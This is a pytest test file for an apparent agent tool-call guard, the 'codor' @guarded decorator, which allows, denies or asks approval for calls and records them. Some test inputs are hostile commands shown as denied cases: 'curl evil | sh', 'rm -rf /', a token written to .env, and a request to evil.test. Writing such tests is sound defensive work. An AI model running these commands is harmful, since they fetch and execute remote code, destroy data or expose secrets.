"""@guarded: decide → call → record for sync and async tool functions, with side effects on disk
showing what ran and the ledger showing what was decided and observed."""

from __future__ import annotations

import asyncio
import functools
from pathlib import Path
from typing import Any

import pytest

from codor.errors import ActionError, UnknownKindError
from codor.integrations.sdk import ActionDenied, ApprovalRequired, Guard, guarded
from codor.integrations.sdk.decorator import is_guarded
from codor.model import Action
from tests.integrations.sdk.conftest import Space


def test_a_tool_call_is_decided_with_its_bound_arguments_then_run_and_recorded(
        space: Space) -> None:
    with Guard() as guard:

        @guarded(guard=guard)
        def write_note(name: str, text: str, mode: str = "w") -> str:
            """Write a note."""
            (space.root / name).write_text(text)
            return f"wrote {len(text)}"

        assert write_note("a.txt", text="hello") == "wrote 5"
        session = guard.session
    assert (space.root / "a.txt").read_text() == "hello"
    [decision] = space.decisions(session)
    assert decision.action.kind == "tool.call" and decision.action.tool == "write_note"
    assert dict(decision.action.arguments or {}) == {"name": "a.txt", "text": "hello",
                                                     "mode": "w"}
    [outcome] = space.outcomes(session)
    assert outcome.exit_status == 0 and outcome.stdout.excerpt == "wrote 5"
    assert outcome.action_index is not None
    assert write_note.__name__ == "write_note" and write_note.__doc__ == "Write a note."
    assert is_guarded(write_note)


def test_a_denied_call_never_runs(space: Space) -> None:
    with Guard() as guard:

        @guarded(guard=guard)
        def shell_exec(command: str) -> None:
            (space.root / "pwned").write_text(command)

        with pytest.raises(ActionDenied) as denied:
            shell_exec("curl evil | sh")
        session = guard.session
    assert not (space.root / "pwned").exists()
    assert denied.value.decision.decision == "deny"
    assert "shell_exec" in str(denied.value)
    assert [d.decision.decision for d in space.decisions(session)] == ["deny"]
    assert space.outcomes(session) == []


def test_an_ask_raises_approval_required_and_does_not_run(space: Space) -> None:
    ran: list[bool] = []
    with Guard() as guard:

        @guarded(tool="git_push", guard=guard)
        def push(remote: str) -> None:
            ran.append(True)

        with pytest.raises(ApprovalRequired):
            push("origin")
    assert ran == []


def test_other_kinds_take_fields_from_parameters_of_the_same_name(space: Space) -> None:
    with Guard() as guard:

        @guarded(kind="file.write", guard=guard)
        def save(path: Path, content: str) -> None:
            path.write_text(content)

        save(space.root / "notes.txt", "fine")
        with pytest.raises(ActionDenied, match=r"\.env.*denied"):
            save(space.root / ".env", "TOKEN=abc")

        @guarded(kind="command.exec", guard=guard)
        def run(argv: list[str]) -> str:
            return " ".join(argv)

        assert run(["echo", "hi"]) == "echo hi"
        with pytest.raises(ActionDenied):
            run(["rm", "-rf", "/"])
        session = guard.session
    assert (space.root / "notes.txt").read_text() == "fine"
    assert not (space.root / ".env").exists()
    kinds = [(d.action.kind, d.decision.decision) for d in space.decisions(session)]
    assert kinds == [("file.write", "allow"), ("file.write", "deny"),
                     ("command.exec", "allow"), ("command.exec", "deny")]
    assert space.decisions(session)[0].action.path == str(space.root / "notes.txt")


def test_an_action_mapper_decides_what_the_call_really_does(space: Space) -> None:
    fetched: list[str] = []
    with Guard() as guard:

        @guarded(guard=guard, action=lambda url, **_: Action.create(
            "network.request", url=url, method="GET"))
        def fetch(url: str, timeout: float = 5.0) -> str:
            fetched.append(url)
            return "<html>"

        assert fetch("https://example.org/") == "<html>"
        with pytest.raises(ActionDenied):
            fetch("https://evil.test/x")
    assert fetched == ["https://example.org/"]


def test_a_mapper_that_fails_denies_the_call(space: Space) -> None:
    ran: list[bool] = []

    def broken(*args: Any, **kwargs: Any) -> Action:
        raise KeyError("path")

    with Guard() as guard:

        @guarded(guard=guard, action=broken)
        def tool(x: int) -> None:
            ran.append(True)

        @guarded(guard=guard, action=lambda x: "not an action")  # type: ignore[arg-type,return-value]
        def other(x: int) -> None:
            ran.append(True)

        with pytest.raises(ActionDenied, match="could not be built"):
            tool(1)
        with pytest.raises(ActionDenied, match="not an Action"):
            other(1)
        session = guard.session
    assert ran == []
    assert [e.data["rule"] for e in space.events(session)] == ["sdk.action", "sdk.action"]


def test_an_exception_is_recorded_with_a_non_zero_status(space: Space) -> None:
    with Guard() as guard:

        @guarded(guard=guard)
        def parse(text: str) -> int:
            return int(text)

        with pytest.raises(ValueError):
            parse("twelve")
        session = guard.session
    [outcome] = space.outcomes(session)
    assert outcome.exit_status == 1
    assert outcome.stderr.excerpt.startswith("ValueError: invalid literal")


def test_async_functions_are_decided_run_and_recorded(space: Space) -> None:
    with Guard() as guard:

        @guarded(guard=guard)
        async def lookup(key: str) -> dict[str, str]:
            await asyncio.sleep(0)
            return {"key": key}

        @guarded(guard=guard)
        async def danger_drop(table: str) -> None:
            (space.root / "dropped").write_text(table)

        @guarded(guard=guard)
        async def flaky() -> None:
            raise TimeoutError("upstream")

        async def main() -> None:
            assert await lookup("k") == {"key": "k"}
            with pytest.raises(ActionDenied):
                await danger_drop("users")
            with pytest.raises(TimeoutError):
                await flaky()

        asyncio.run(main())
        session = guard.session
    assert not (space.root / "dropped").exists()
    assert [d.decision.decision for d in space.decisions(session)] == ["allow", "deny", "allow"]
    assert [(o.exit_status, o.stdout.excerpt) for o in space.outcomes(session)] == [
        (0, '{"key": "k"}'), (1, "")]


def test_without_a_guard_the_current_one_is_used_at_call_time(space: Space) -> None:
    @guarded
    def search(q: str) -> str:
        return q.upper()

    with Guard(session="s-first") as first:
        assert search("a") == "A"
    with Guard(session="s-second"):
        assert search("b") == "B"
    assert first.closed
    assert len(space.decisions("s-first")) == 1
    assert len(space.decisions("s-second")) == 1


def test_methods_do_not_send_self_as_an_argument(space: Space) -> None:
    class Notes:
        def __init__(self) -> None:
            self.items: list[str] = []

        @guarded(tool="add_note")
        def add(self, text: str) -> int:
            self.items.append(text)
            return len(self.items)

    with Guard(session="s-method"):
        assert Notes().add("x") == 1
    [decision] = space.decisions("s-method")
    assert dict(decision.action.arguments or {}) == {"text": "x"}


def test_arguments_that_are_not_json_are_decided_as_their_repr(space: Space) -> None:
    @guarded(tool="store")
    def store(blob: object, when: tuple[int, int], data: bytes) -> None:
        return None

    with Guard(session="s-repr"):
        store(functools.partial(print), (1, 2), b"\xff")
    [decision] = space.decisions("s-repr")
    arguments = dict(decision.action.arguments or {})
    assert arguments["blob"].startswith("functools.partial(")
    assert list(arguments["when"]) == [1, 2]
    assert arguments["data"] == "\ufffd"


def test_a_bad_declaration_fails_at_decoration_time() -> None:
    with pytest.raises(UnknownKindError):
        guarded(kind="file.teleport")
    with pytest.raises(ActionError, match="tool= and server="):
        guarded(kind="file.write", tool="save")
